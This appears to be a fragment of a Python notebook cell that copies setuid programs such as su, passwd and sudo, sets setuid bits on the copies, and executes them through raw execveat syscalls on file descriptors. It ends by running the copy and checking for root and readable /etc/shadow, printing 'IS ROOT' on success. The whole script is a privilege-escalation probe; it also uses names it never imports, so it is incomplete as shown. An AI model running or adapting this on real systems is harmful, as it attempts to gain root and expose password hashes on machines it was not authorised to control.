# %% [markdown]
# runs copies of set-user-id programs by descriptors, links and file handles

# %% start parts="look call"
import shutil

for program in ("/bin/su", "/usr/bin/passwd", "/usr/bin/newgrp", "/bin/mount", "/usr/bin/sudo"):
    try:
        shutil.copy(program, "copy")
        os.chmod("copy", 0o6755)
    except OSError as error:
        print(error)
        continue
    for path in ("copy", program):
        place = os.open(path, os.O_RDONLY)
        child = os.fork()
        if child == 0:
            argv = (ctypes.c_char_p * 3)(b"x", b"--version", None)
            call((322, 281), place, b"\0", argv, (ctypes.c_char_p * 1)(None), 0x1000)
            os._exit(1)
        os.waitpid(child, 0)
        os.close(place)
os.system("id -u; ./copy -c id")
print("IS ROOT" if 0 in os.getresuid() and os.access("/etc/shadow", os.R_OK) else "")
